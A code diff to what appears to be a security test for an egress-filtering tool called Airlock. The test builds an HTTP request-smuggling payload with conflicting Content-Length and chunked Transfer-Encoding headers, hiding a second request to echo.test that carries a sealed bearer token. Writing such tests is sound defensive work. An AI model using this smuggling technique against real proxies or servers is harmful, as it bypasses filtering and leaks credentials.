@@ -1,8 +1,9 @@
-# D14 hides a second request where Airlock and the host could disagree about the end of the first
+# D14 hides a second request where Airlock and the host may disagree about the end of the first
 # decided-by: egress
 # hosts: echo.test
 # timeout: 60
-hidden = b"GET /smuggled HTTP/1.1\r\nHost: echo.test\r\nAuthorization: Bearer " + settings["SEALED"].encode() + b"\r\n\r\n"
+sealed = b"Authorization: Bearer " + settings["SEALED"].encode()
+hidden = http_head(b"GET /smuggled HTTP/1.1", b"Host: echo.test", sealed)
 head = b"POST / HTTP/1.1\r\nHost: echo.test\r\n"
 for what, request in {
     "CL and TE": head + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
